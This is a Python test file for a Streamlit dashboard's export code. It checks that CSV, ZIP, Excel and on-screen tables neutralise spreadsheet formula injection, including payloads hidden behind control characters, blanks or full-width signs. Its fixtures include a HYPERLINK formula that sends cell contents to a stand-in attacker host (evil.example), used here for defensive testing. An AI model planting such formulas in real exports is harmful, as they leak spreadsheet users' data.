"""Formula injection through every download: control characters are dropped before the check,
leading blanks and full-width signs start formulas too, and the CSV, ZIP, Excel and on-screen
tables (whose toolbar exports what is shown) all use the one `neutralize`."""
from __future__ import annotations

import ast
import csv
import io
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from ui.excel import to_xlsx_bytes
from ui.export import neutralize, to_csv_bytes, zip_bytes

ROOT = Path(__file__).resolve().parents[2]
LINK = '=HYPERLINK("https://evil.example/?d="&A1,"open")'


@pytest.mark.parametrize("value, cell", [
    ("\x01" + LINK, "'" + LINK),                      # control character first: dropped, then
    ("\x00\x1b@SUM(A1:A9)", "'@SUM(A1:A9)"),          # the sign is seen
    (" " + LINK, "' " + LINK),                        # leading blanks are trimmed by spreadsheets
    ("\u00a0\u3000=1+1", "'\u00a0\u3000=1+1"),
    ("\n-2+3", "'\n-2+3"),
    ("＝HYPERLINK(\"https://evil.example\")", "'＝HYPERLINK(\"https://evil.example\")"),
    ("＋86 10 1234", "'＋86 10 1234"), ("－1", "'－1"), ("＠SUM(A1)", "'＠SUM(A1)"),
    ("\ufeff\u200b=1", "'\ufeff\u200b=1"),              # invisible format characters
    ("bell\x07 and DEL\x7f inside", "bell and DEL inside"),
    ("  Tsinghua University", "  Tsinghua University"),
    ("数额＝100万元", "数额＝100万元"),                    # a sign inside text starts nothing
])
def test_neutralize_drops_control_characters_then_neutralises(value, cell):
    assert neutralize(value) == cell


def test_excel_never_holds_a_formula_behind_a_control_character():
    df = pd.DataFrame({"name": ["\x01" + LINK, " " + LINK, "＝1+1", "ok"], "n": [1, 2, 3, 4]})
    ws = load_workbook(io.BytesIO(to_xlsx_bytes({"t": df})))["t"]
    cells = [ws.cell(row=r, column=1) for r in range(2, 6)]
    assert [c.data_type for c in cells] == ["s"] * 4
    assert [c.value for c in cells] == ["'" + LINK, "' " + LINK, "'＝1+1", "ok"]


def test_csv_and_zip_neutralise_leading_blanks_and_full_width_signs():
    df = pd.DataFrame({"name": [" " + LINK, "＋1", "\x02-1"]})
    expected = [["name"], ["' " + LINK], ["'＋1"], ["'-1"]]
    assert list(csv.reader(io.StringIO(to_csv_bytes(df).decode("utf-8-sig")))) == expected
    with zipfile.ZipFile(io.BytesIO(zip_bytes({"orgs": df}, {}))) as zf:
        inner = zf.read("orgs.csv").decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(inner))) == expected


def _table_calls() -> list[tuple[str, int, ast.Call]]:
    calls = []
    for path in [ROOT / "dashboard.py", *(ROOT / "app_pages").glob("*.py"),
                 *(ROOT / "ui").rglob("*.py")]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and (
                    node.func.attr in ("dataframe", "data_editor") or (
                        node.func.attr == "table" and getattr(node.func.value, "id", "") == "st")):
                calls.append((path.name, node.lineno, node))  # layout.table: its own check
    return calls


def _neutralised(call: ast.Call) -> bool:
    data = call.args[0] if call.args else next(
        (k.value for k in call.keywords if k.arg == "data"), None)
    # a Styler shows the cells of its frame: neutralize_frame(df).style.format(...)
    while isinstance(data, ast.Call) and isinstance(data.func, ast.Attribute) and \
            data.func.attr == "format" and isinstance(data.func.value, ast.Attribute) and \
            data.func.value.attr == "style":
        data = data.func.value.value
    return isinstance(data, ast.Call) and isinstance(data.func, ast.Attribute | ast.Name) and \
        getattr(data.func, "attr", getattr(data.func, "id", None)) == "neutralize_frame"


def test_every_table_on_screen_shows_neutralised_cells():
    """st.dataframe's toolbar downloads the cells shown as CSV, with no neutralisation."""
    calls = _table_calls()
    assert len(calls) >= 3
    assert [(f, line) for f, line, call in calls if not _neutralised(call)] == []


@pytest.mark.parametrize("snippet, ok", [
    ("st.dataframe(export.neutralize_frame(df), key='x')", True),
    ("st.dataframe(data=neutralize_frame(df))", True),
    ("st.dataframe(df, key='x')", False),
    ("st.dataframe(df.fillna('-'))", False),
    ("st.dataframe(export.neutralize_frame(df).style.format(formatter=f), key='x')", True),
    ("st.dataframe(df.style.format(formatter=f), key='x')", False),
])
def test_the_table_check_can_fail(snippet, ok):
    assert _neutralised(ast.parse(snippet).body[0].value) is ok


def test_the_explorer_table_toolbar_exports_neutralised_text(monkeypatch, sample_wh):
    monkeypatch.setenv("WAREHOUSE_DIR", str(sample_wh))
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=60).run()
    at.switch_page("app_pages/explorer.py").run()
    at.selectbox(key="explorer_table").set_value("documents").run()
    shown = at.dataframe[0].value.set_index("doc_id")
    assert shown.loc["d05", "text"].startswith("'=HYPERLINK(")
    assert shown.loc["d02", "text"].startswith("成都2021年4月20日电")
